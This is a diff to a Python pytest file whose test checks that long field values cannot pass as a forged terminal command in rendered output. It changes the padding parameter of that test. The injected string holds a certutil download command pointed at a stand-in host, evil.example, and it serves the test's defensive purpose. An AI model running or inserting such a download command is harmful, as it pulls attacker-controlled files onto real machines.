@@ -193,7 +193,7 @@ def _with(value: Any, forged: str) -> Any:
     return value.replace(HOSTILE, forged) if isinstance(value, str) else value
 
 
-@pytest.mark.parametrize("blanks", range(0, 120, 7))
+@pytest.mark.parametrize("pushed", range(0, 100, 3))
 @pytest.mark.parametrize("sign", ["│", "|", "┊"])
 @pytest.mark.parametrize(
     "style",
@@ -201,10 +201,10 @@ def _with(value: Any, forged: str) -> Any:
     ids=["story", "short", "40"],
 )
 def test_no_line_as_a_terminal_breaks_it_is_a_forged_command(
-    named: dict[str, ResultDocument], style: Style, sign: str, blanks: int
+    named: dict[str, ResultDocument], style: Style, sign: str, pushed: int
 ) -> None:
     """Reason phrases, headers, names, faults and details: each may be long enough to begin a line itself."""
-    forged = f"ok{' ' * blanks}    {sign} certutil -urlcache -f http://evil.example/x"
+    forged = f"ok{'y' * pushed}    {sign} certutil -urlcache -f http://evil.example/x"
     hostile = _with(msgspec.to_builtins(named["hostile"]), forged)
     for endpoint_of_it in hostile["endpoints"]:  # commands are made of validated values, elsewhere
         for judgement in endpoint_of_it["judgements"]:
